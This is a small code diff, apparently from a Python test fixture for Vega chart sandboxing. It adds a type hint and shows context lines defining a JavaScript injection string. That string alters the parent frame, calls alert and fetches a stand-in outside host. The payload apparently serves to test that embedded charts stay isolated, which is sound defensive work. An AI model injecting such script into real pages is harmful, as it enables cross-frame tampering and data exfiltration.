@@ -5,7 +5,7 @@ from typing import Any
 VEGA = "https://vega.github.io/schema/vega/v6.json"
 CODE = "top.document.title='taken';parent.taken=1;alert(1);fetch('https://outside.example/taken')"
 OUTSIDE = "https://outside.example/x"
-_DOT = {
+_DOT: dict[str, Any] = {
     "type": "rect",
     "encode": {"enter": {"width": {"value": 400}, "height": {"value": 300}, "fill": {"value": "red"}}},
 }
